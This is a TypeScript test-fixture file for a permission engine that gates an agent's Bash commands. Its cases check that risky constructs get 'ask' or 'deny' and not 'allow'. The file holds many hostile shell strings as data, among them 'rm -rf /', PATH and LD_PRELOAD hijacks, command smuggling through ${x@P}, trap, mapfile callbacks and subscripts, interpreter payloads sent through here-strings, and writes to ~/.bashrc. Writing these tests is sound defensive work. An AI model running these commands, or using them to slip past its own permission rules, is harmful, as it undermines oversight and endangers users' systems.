        { tool: "Bash(eslint *)", behavior: "deny" },
      ],
    },
    tool: "Bash",
    input: { command: "npx eslint ." },
    expect: { decision: "deny", rule: "Bash(eslint *)" },
  },
  {
    name: "package runners: an ask rule on the program beats the runner's allow",
    policy: {
      default_behavior: "allow",
      rules: [
        { tool: "Bash(npx prettier *)", behavior: "allow" },
        { tool: "Bash(prettier *)", behavior: "ask" },
      ],
    },
    tool: "Bash",
    input: { command: "npx prettier --write src" },
    expect: { decision: "ask", rule: "Bash(prettier *)" },
  },
];

/** A pattern that must be rejected at load, at a column of the pattern, with a hint. */
export interface MalformedPatternCase {
  readonly pattern: string;
  /** 1-based column in the pattern where the error points. */
  readonly column: number;
  /** Text the error message must contain. */
  readonly message: string;
}

/** Patterns that read as conditions but are not valid ones: load errors, never dead globs. */
export const MALFORMED_PATTERNS: readonly MalformedPatternCase[] = [
  { pattern: "Bash(command ~ 'rm *')", column: 16, message: 'use double quotes: command ~ "rm *"' },
  { pattern: "Bash(command~'rm *')", column: 14, message: 'use double quotes: command ~ "rm *"' },
  {
    pattern: "Bash(command !~ 'rm *')",
    column: 17,
    message: 'use double quotes: command !~ "rm *"',
  },
  { pattern: "T(f = noquote)", column: 7, message: 'use double quotes: f = "noquote"' },
  { pattern: "T(f=noquote)", column: 5, message: 'use double quotes: f = "noquote"' },
  { pattern: "T(file-path ~ x)", column: 15, message: 'use double quotes: file-path ~ "x"' },
  { pattern: 'Bash(items[x] = "1")', column: 12, message: "expected an index or '*'" },
  { pattern: 'Bash(= "git status")', column: 6, message: "needs a field before '='" },
  { pattern: 'Bash(~ "rm *")', column: 6, message: "needs a field before '~'" },
  { pattern: 'Bash(a/b ~ "x")', column: 7, message: "'/' cannot appear in a field path" },
  { pattern: 'Bash(command == "rm")', column: 14, message: "unknown operator '=='" },
  { pattern: "Bash(command ~ “rm *”)", column: 16, message: 'use double quotes: command ~ "rm *"' },
  { pattern: "Bash(command ~ `rm *`)", column: 16, message: 'use double quotes: command ~ "rm *"' },
  { pattern: "Bash(cd ~ && ls)", column: 11, message: "the value is not quoted" },
];

// ── Issue 9 (shell) helpers: hoisted so the block above can use them ──────────────────────────
function shellCodePolicy(): PolicyDocument {
  return {
    default_behavior: "ask",
    rules: [
      ...[
        "ls *",
        "echo *",
        "cat *",
        "head *",
        "printf *",
        "read *",
        "declare *",
        "local *",
        "export *",
        "let *",
        "unset *",
        "mapfile *",
        "test *",
        "git status",
        "npm test",
        "true",
      ].map((glob) => ({ tool: `Bash(${glob})`, behavior: "allow" as const })),
      { tool: "Bash(rm *)", behavior: "deny" as const },
    ],
  };
}

function shellCodeCases(): PolicyCase[] {
  const policy = shellCodePolicy();
  const asks = (name: string, command: string): PolicyCase => ({
    name: `shell code: ${name}`,
    policy,
    tool: "Bash",
    input: { command },
    expect: { decision: "ask", rule: null, reason: "shell_uncertain" },
  });
  const allows = (name: string, command: string): PolicyCase => ({
    name: `shell code, plain: ${name}`,
    policy,
    tool: "Bash",
    input: { command },
    expect: { decision: "allow" },
  });
  const denies = (name: string, command: string): PolicyCase => ({
    name: `shell code, deny still fires: ${name}`,
    policy,
    tool: "Bash",
    input: { command },
    expect: { decision: "deny", rule: "Bash(rm *)" },
  });
  return [
    // parameter transformations that re-read a value
    asks("prompt expansion runs a $(…) held in a value", "x='$(touch /tmp/pwned)'; ls ${x@P}"),
    asks("prompt expansion inside double quotes", 'echo "${HOME@P}"'),
    asks("prompt expansion of every array element", "ls ${a[@]@P}"),
    asks("other re-reading transformations (@E @A @K @a)", "echo ${x@E} ${x@A} ${x@K} ${x@a}"),
    asks("a transformation in a default operand", "echo ${x:-${y@P}}"),
    asks("a transformation in a here-string", "cat <<< ${x@P}"),
    asks("a transformation in a here-doc", "cat <<EOF\n${x@P}\nEOF"),
    asks("a here-doc's ${x:-'…'} is not quoted", "cat <<EOF\n${x:-'$(touch /tmp/pwned)'}\nEOF"),
    // indirection
    asks("indirect expansion reads a value as a name", "ls ${!x}"),
    asks("indirect expansion with a default", 'echo "${!x:-none}"'),
    asks("indirect expansion of a positional parameter", "echo ${!1}"),
    // arithmetic contexts
    asks("arithmetic evaluates names recursively", "x='a[$(touch /tmp/pwned)]'; ls $((x))"),
    asks("arithmetic on an expansion", "echo $(( $x + 1 ))"),
    asks("the old $[ ] arithmetic", "echo $[x]"),
    asks("an indexed array's subscript is arithmetic", "ls ${a[x]}"),
    asks("a subscript from an expansion", 'echo "${a[$i]}"'),
    asks("a subscript in a length", "echo ${#a[i]}"),
    asks("a substring offset is arithmetic", "ls ${x:off}"),
    asks("a substring length is arithmetic", "ls ${x:0:len}"),
    asks("an array slice offset is arithmetic", "echo ${a[@]:n}"),
    asks("a positional slice offset is arithmetic", "echo ${@:n}"),
    asks("[[ -eq ]] evaluates both sides", "[[ $x -eq 1 ]] && ls"),
    asks("[[ -lt ]] on a bare name", "[[ n -lt 3 ]] && ls"),
    asks("(( )) on a name", "(( x )) && ls"),
    asks("an arithmetic for loop on a name", "for ((i = 0; i < n; i++)); do ls; done"),
    asks("let on a name", "let x"),
    asks("let through a subscript", "let 'a[$(touch /tmp/pwned)]=1'"),
    asks("an assignment through a subscript", "a[$i]=1; ls"),
    asks("a compound assignment with a keyed subscript", "a=([k]=1); ls"),
    // builtins that assign through names and subscripts
    asks("printf -v to a dynamic name", 'printf -v "$name" %s 1'),
    asks("printf -v through a subscript", "printf -v 'a[$(touch /tmp/pwned)]' %s 1"),
    asks("printf with a dynamic first word may be -v", 'printf "$fmt" x'),
    asks("read into a subscript", "read 'a[$i]' < README.md"),
    asks("read -a into a dynamic name", 'read -a "$name" < README.md'),
    asks("read with split words may gain -a", "read $opts < README.md"),
    asks("declare a dynamic name", 'declare "$x"=1'),
    asks("declare a quoted compound assignment", "declare 'a=($(touch /tmp/pwned))'"),
    asks("declare -n makes a name a reference", "declare -n r=x; echo $r"),
    asks("declare -i makes later assignments arithmetic", "declare -i n; n=x"),
    asks("local -n in a function", "f() { local -n r=$1; echo $r; }"),
    asks("export through a subscript", "export 'a[$(touch /tmp/pwned)]'"),
    asks("mapfile -C runs a callback", "mapfile -C 'touch /tmp/pwned #' -c 1 lines < README.md"),
    asks("mapfile into a dynamic name", 'mapfile "$name" < README.md'),
    asks("unset through a subscript", "unset 'a[$(touch /tmp/pwned)]'"),
    asks("unset a dynamic name", 'unset "$name"'),
    asks("test -v on a dynamic name", 'test -v "$x"'),
    asks("[ -v ] through a subscript", "[ -v 'a[$(touch /tmp/pwned)]' ]"),
    asks("[[ -v ]] on a dynamic name", "[[ -v $x ]] && ls"),
    asks("test with split words may gain -v", "test $x"),
    // assignments that change what runs, wherever they appear
    asks("a standalone PATH assignment", "PATH=/tmp/evil:$PATH; ls"),
    asks("an appended PATH assignment", "PATH+=:/tmp/evil; ls"),
    asks("export PATH", "export PATH=/tmp/evil:$PATH && ls"),
    asks("a for loop over PATH", "for PATH in /tmp/evil; do ls; done"),
    asks("${PATH:=…}", "echo ${PATH:=/tmp/evil}; ls"),
    asks("IFS", "IFS=/; ls $x"),
    asks("LD_PRELOAD", "LD_PRELOAD=/tmp/x.so ls"),
    asks("BASH_ENV", "BASH_ENV=/tmp/x; ls"),
    asks("ENV", "export ENV=/tmp/x"),
    asks("PROMPT_COMMAND", "PROMPT_COMMAND='touch /tmp/pwned'; ls"),
    asks("PS4", "PS4='$(touch /tmp/pwned)'; ls"),
    asks("SHELLOPTS", "SHELLOPTS=xtrace ls"),
    asks("BASHOPTS", "BASHOPTS=extdebug ls"),
    asks("CDPATH", "CDPATH=/tmp; ls"),
    asks("GLOBIGNORE", "GLOBIGNORE='*'; ls *"),
    asks("GIT_* variables", "GIT_DIR=/tmp/evil git status"),
    asks("GIT_CONFIG_* variables", "GIT_CONFIG_COUNT=1 git status"),
    asks("npm_config_* variables", "npm_config_script_shell=/tmp/evil npm test"),
    asks("NODE_OPTIONS", "NODE_OPTIONS=--require=/tmp/x.js npm test"),
    asks("BASH_FUNC_* through env", "env 'BASH_FUNC_ls%%=() { touch /tmp/pwned; }' ls"),
    asks("BASH_CMDS rewrites the command hash", "BASH_CMDS[ls]=/tmp/evil; ls"),
    asks("a descriptor variable named PATH", "exec {PATH}>/dev/null; ls"),
    asks("unset PATH", "unset PATH; ls"),
    asks("a wrapper option that may split", "nice -n $n ls"),
    asks("alias", "alias ls='touch /tmp/pwned'"),
    asks("trap runs its action later", "trap 'touch /tmp/pwned' EXIT; ls"),
    asks("compgen -W expands its words", "compgen -W '$(touch /tmp/pwned)' x"),
    // a deny still fires where what it would run can be seen
    denies("behind a prompt expansion", "x='$(touch /tmp/pwned)'; ls ${x@P}; rm -rf /"),
    denies("behind a PATH assignment", "PATH=/tmp/evil:$PATH rm -rf /"),
    denies("behind arithmetic", "ls $((x)) && rm -rf /"),
    denies("inside a trap action", "trap 'rm -rf /' EXIT"),
    denies("inside a mapfile callback", "mapfile -C 'rm -rf /' -c 1 lines < README.md"),
    denies("inside compgen's expanded word list", "compgen -W '$(rm -rf /)' x"),
    // plain uses stay allowed
    allows("ls -la src", "ls -la src"),
    allows('echo "$HOME"', 'echo "$HOME"'),
    allows("echo $((1+2))", "echo $((1+2))"),
    allows("git status", "git status"),
    allows("npm test", "npm test"),
    allows("cat README.md | head -5", "cat README.md | head -5"),
    allows("quoting and case transformations", 'echo "${x@Q}" ${x@U} ${x,,} ${#x}'),
    allows("literal subscripts and slices", 'echo "${a[0]}" "${a[@]}" ${x:1:2} ${x: -1}'),
    allows("arithmetic on numbers and $#", "echo $(( 16#ff + 0x1 )) $(( $# + 1 ))"),
    allows("[[ ]] on numbers and $?", "[[ $? -eq 0 ]] && ls"),
    allows("keys and name lists", 'echo "${!a[@]}" "${!PRE@}"'),
    allows("an ordinary assignment before a command", "x=1; ls $x"),
    allows("an ordinary prefix assignment", "CI=1 NODE_ENV=test npm test"),
    allows("output-only interpreter variables", "PYTHONUNBUFFERED=1 FORCE_COLOR=0 npm test"),
    allows("read into plain names", "read -r first rest < README.md"),
    allows("printf -v to a plain name", 'printf -v line "%s" "$x"'),
    allows("printf data that splits", 'printf "%s\n" $files'),
    allows("declare a plain array", "declare -a parts=(a b)"),
    allows("export an ordinary variable", 'export FOO="$x"'),
    allows("unset an ordinary variable", "unset FOO"),
    allows("test on quoted values", 'test -n "$x" && test -f "$x"'),
  ];
}

function shellInputCases(): PolicyCase[] {
  const policy: PolicyDocument = {
    default_behavior: "ask",
    rules: [
      ...[
        "python3 *",
        "perl *",
        "node *",
        "tsx *",
        "make *",
        "gdb *",
        "sqlite3 *",
        "vim *",
        "echo *",
        "cat *",
        "ls *",
        "set *",
        "git *",
        "awk *",
        "man *",
        "less *",
        "rg *",
        "exec",
        "uniq *",
        "tar *",
        "ftp *",
        "hyperfine *",
        "chronic *",
        "go *",
        "gcc *",
      ].map((glob) => ({ tool: `Bash(${glob})`, behavior: "allow" as const })),
      { tool: "Bash(rm *)", behavior: "deny" as const },
    ],
  };
  const call = (name: string, command: string, expect: PolicyCase["expect"]): PolicyCase => ({
    name,
    policy,
    tool: "Bash",
    input: { command },
    expect,
  });
  const asks = (name: string, command: string) =>
    call(`shell input: ${name}`, command, {
      decision: "ask",
      rule: null,
      reason: "shell_uncertain",
    });
  const allows = (name: string, command: string) =>
    call(`shell input, plain: ${name}`, command, { decision: "allow" });
  const code = "'import os; os.system(\"touch /tmp/pwned\")'";
  return [
    asks("python3 reads its program from `-` whatever follows", `python3 - x <<< ${code}`),
    asks("an option's value is not a script", `python3 -W ignore <<< ${code}`),
    asks("a descriptor path is the input", `python3 /dev/fd/3 3<<< ${code}`),
    asks("a pipe feeds code as a here-string does", `echo ${code} | python3`),
    asks("a here-string on a group feeds its commands", `{ python3 - x; } <<< ${code}`),
    asks("a wrapper that splits its string is looked through", `env -Spython3 <<< ${code}`),
    asks("node -r /dev/stdin loads the input", "node -r /dev/stdin x.js <<< 'x'"),
    asks("a device as input is the pipe's data", `echo ${code} | python3 < /dev/stdin`),
    asks("exec reopens the shell's descriptors", `exec 3<<< ${code}; python3 <&3`),
    asks("a coprocess reads what the shell writes", "coproc { python3; }; echo x >&60"),
    asks("make -f - reads a makefile from the input", "make -f - x <<< $'x:\n\ttouch /tmp/pwned'"),
    asks(
      "a debugger reads commands unless in batch mode",
      "gdb -q prog <<< 'shell touch /tmp/pwned'",
    ),
    asks("vim reads keystrokes from its input", "vim README.md <<< ':!touch /tmp/pwned'"),
    asks(
      "a database client's meta-command in its input",
      "sqlite3 db <<< '.shell touch /tmp/pwned'",
    ),
    asks("tsx -e is inline code", "tsx -e 'process.exit(1)'"),
    asks(
      "set +o takes a name and reads the options after it",
      "set +o posix -o keyword; ls PATH=./evil",
    ),
    asks("MANOPT is man's options", "MANOPT=-Ptouch man ls"),
    asks("MAKEFILES is read before the makefile", "MAKEFILES=/tmp/x.mk make"),
    asks("VIMINIT is start-up code", "VIMINIT='!touch /tmp/pwned' vim -es"),
    asks("git remote-ext runs its URL", "git remote-ext x 'touch /tmp/pwned'"),
    asks("git web--browse runs --cmd", "git web--browse --cmd=touch http://x"),
    asks("git daemon --access-hook runs a command", "git daemon --access-hook=touch --inetd"),
    asks("gawk's indirect call", `awk 'BEGIN { f = "sys" "tem"; @f("touch /tmp/pwned") }'`),
    asks("rg --hostname-bin runs a program", "rg --hostname-bin=touch x"),
    call("shell input: less -o writes the piped input", "cat x | less -o ~/.bashrc", {
      decision: "ask",
    }),
    call(
      "shell input: a shell under env -S reads its here-string as a script",
      "env -Sbash <<< 'rm -rf x'",
      {
        decision: "deny",
        rule: "Bash(rm *)",
      },
    ),
    call(
      "shell input: a shell in a redirected group reads its here-string",
      "{ bash; } <<< 'rm -rf x'",
      {
        decision: "deny",
        rule: "Bash(rm *)",
      },
    ),
    call("shell input: uniq's second operand is a write", "uniq a.txt ~/.bashrc", {
      decision: "ask",
    }),
    call("shell input: tar's incremental snapshot is a write", "tar -c -g ~/.bashrc -f - src", {
      decision: "ask",
    }),
    asks("ftp runs `!cmd` from its input", "ftp <<< '!touch /tmp/pwned'"),
    allows("uniq to standard output", "uniq -c a.txt"),
    allows("cross-env is looked through as env is", "cross-env NODE_ENV=test ls -la"),
    asks("go test -exec runs the test binary through a program", "go test -exec 'sh -c id' ./..."),
    asks("go env -w writes go's configuration", "go env -w GOFLAGS=-toolexec=id"),
    asks("gcc -wrapper runs each tool through a program", "gcc -wrapper sh,-c,id x.c"),
    allows("go test and gcc without such options", "go test ./... && gcc -O2 -o x x.c"),
    allows("an interpreter's version in a function", "f() { python3 --version; }"),
    call("shell input: cross-env's command is what deny rules see", "cross-env A=1 rm -rf x", {
      decision: "deny",
      rule: "Bash(rm *)",
    }),
    asks("cross-env with a dangerous assignment", "cross-env PATH=/tmp/evil ls"),
    asks("hyperfine runs its operands as command lines", "hyperfine 'ls'"),
    asks("chronic runs its operand", "chronic ls"),
    allows("a here-string to a named script is its data", "python3 x.py <<< data"),
    allows("a module reads its input as data", "cat x.json | python3 -m json.tool"),
    allows("plain SQL on standard input", "sqlite3 db <<< 'select 1;'"),
    allows("a debugger in batch mode", "gdb -batch prog <<< x"),
    allows("set with +o and a harmless name", "set +o posix; ls"),
    allows("less without options that run or write", "cat x | less -R"),
    allows("ordinary prefix variables", "CI=1 NODE_ENV=test FORCE_COLOR=0 ls"),
  ];
}

function shellOptionCases(): PolicyCase[] {
  const policy: PolicyDocument = {
    default_behavior: "ask",
    rules: [
      ...[
        "awk *",
        "tree *",
        "yq *",
        "git *",
        "pytest *",
        "python -m pytest*",
        "npm test*",
        "node *",
        "python3 *",
        "curl *",
        "gh *",
        "npm *",
        "npx eslint *",
      ].map((glob) => ({
        tool: `Bash(${glob})`,
        behavior: "allow" as const,
      })),
      { tool: "Bash(rm *)", behavior: "deny" as const },
    ],
  };
  const call = (name: string, command: string, decision: Behavior): PolicyCase => ({
    name,
    policy,
    tool: "Bash",
    input: { command },
    expect: { decision },
  });
  const asks = (name: string, command: string) => call(`shell option: ${name}`, command, "ask");
  const allows = (name: string, command: string) =>
    call(`shell option, plain: ${name}`, command, "allow");
  return [
    asks(
      "an awk redirection after a string holding `;`",
      `awk 'BEGIN { print ";pwn" > ".bashrc" }'`,
    ),
    asks("an awk redirection after a string holding `}`", `awk '{ print "}" >> "~/.profile" }' f`),
    asks("an awk print continued on the next line", "awk 'BEGIN { print\\\n> \".bashrc\" }'"),
    asks("gawk's pretty-printer writes the program to a file", "gawk --pretty-print=.bashrc 'pwn'"),
    asks("gawk's debugger reads commands", "gawk -D 'BEGIN {}' <<< 'eval \"system(1)\"'"),
    asks("tree -o writes its listing", "tree -if --noreport -o ~/.bashrc"),
    asks("tree -R writes 00Tree.html in each directory", "tree -R -L 1 -H . src"),
    asks("yq -s writes each document to a file it names", `yq -s '"../.bashrc"' docs.yaml`),
    asks("git bundle create writes the bundle", "git bundle create ~/.bashrc HEAD"),
    asks("git help -w opens a browser", "git help -w log"),
    call("shell option: gh --web opens a browser", "gh pr view 12 --web", "ask"),
    call(
      "shell option: a gh alias runs a shell later",
      "gh alias set co --shell 'touch /tmp/pwned'",
      "ask",
    ),
    allows("gh reading pull requests", "gh pr view 12 --comments && gh pr list -L 5"),
    call(
      "shell option: npm config set names the script shell",
      "npm config set script-shell ./evil",
      "ask",
    ),
    call("shell option: eslint -o writes its report", "npx eslint -o ~/.bashrc src", "ask"),
    allows("eslint reporting to standard output", "npx eslint --max-warnings 0 src"),
    asks(
      "git --work-tree moves a checkout's writes",
      "git --work-tree=/home/u checkout HEAD -- .bashrc",
    ),
    asks("pytest --basetemp empties and removes the directory", "pytest --basetemp=.git"),
    asks("python -m pytest writes its report", "python -m pytest --junitxml ~/.bashrc"),
    asks("PYTEST_PLUGINS imports a module", "PYTEST_PLUGINS=evil pytest"),
    call("shell option: npm reads an abbreviated --script-shell", "npm test -scri=./evil", "ask"),
    call(
      "shell option: python -m timeit runs its arguments",
      "python3 -m timeit -s 'import os' 1",
      "ask",
    ),
    call(
      "shell option: python -i reads code after the script",
      "python3 -i x.py <<< 'import os'",
      "ask",
    ),
    allows("a pytest marker named like a module", "python -m pytest -m asyncio"),
    call(
      "shell option: node inspect reads debugger commands",
      "node inspect x.js <<< 'exec 1'",
      "ask",
    ),
    call(
      "shell option: curl's write-out to a file",
      "curl -w '%output{~/.bashrc}x' https://x",
      "ask",
    ),
    allows("curl's write-out to standard output", "curl -sS -w '%{http_code}' https://x"),
    call(
      "shell option: node --import of a data: URL is inline code",
      "node --import='data:text/javascript,process.exit(1)' x.js",
      "ask",
    ),
    asks("a yarn setting names the yarn to run", "export YARN_YARN_PATH=./evil.js; awk 1 f"),
    allows(
      "awk comparisons and prints to standard output",
      `awk -F: '$3 > 100 { print $1, ($2 > 1) }' f`,
    ),
    allows("tree listing to standard output", "tree -L 2 -a src"),
    allows("pytest without writing options", "python -m pytest -x -q tests -k 'a or b'"),
  ];
}
